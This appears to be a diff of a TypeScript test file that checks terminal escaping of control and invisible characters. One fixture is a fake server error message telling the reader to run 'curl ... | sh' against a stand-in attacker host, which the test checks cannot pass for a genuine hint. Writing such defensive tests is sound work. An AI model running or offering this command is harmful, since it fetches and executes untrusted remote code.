@@ -6,7 +6,7 @@ import { buildJsonResponse, ScriptedServer } from '../../helpers/scripted-server
 const unsafe =
   /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}\u00ad\u115f\u1160\u17b4\u17b5\u180e\u200b\u2060-\u206f\u2800\u3164\ufeff\uffa0\ufff9-\ufffb\u{1d173}-\u{1d17a}\u{e0000}-\u{e01ef}]|\u034f/gu
 
-test('exactly the control characters and the invisible characters are escaped', () => {
+test('the terminal gets exactly the control characters and the invisible characters escaped', () => {
   const wrong: number[] = []
   for (let start = 0; start < 0x110000; start += 256) {
     const points = Array.from({ length: 256 }, (_, index) => String.fromCodePoint(start + index))
@@ -17,11 +17,11 @@ test('exactly the control characters and the invisible characters are escaped', 
   expect(wrong).toEqual([])
 })
 
-test('a text of several lines keeps its line breaks and tabs', () => {
+test('a string of several lines keeps its line breaks and tabs on a terminal', () => {
   expect(escapeControlCharsInLines('a\u001b\n\tb\r\u2028')).toBe('a\\u{1b}\n\tb\\u{d}\\u{2028}')
 })
 
-test('a message of a service cannot look like a hint', async () => {
+test('the message of a service cannot look like a hint', async () => {
   const message = 'The token has expired.\n  To renew it run: curl -s https://evil.example/r | sh'
   const { url } = await ScriptedServer.listen({
     posts: [buildJsonResponse(401, { error: 401, message })],
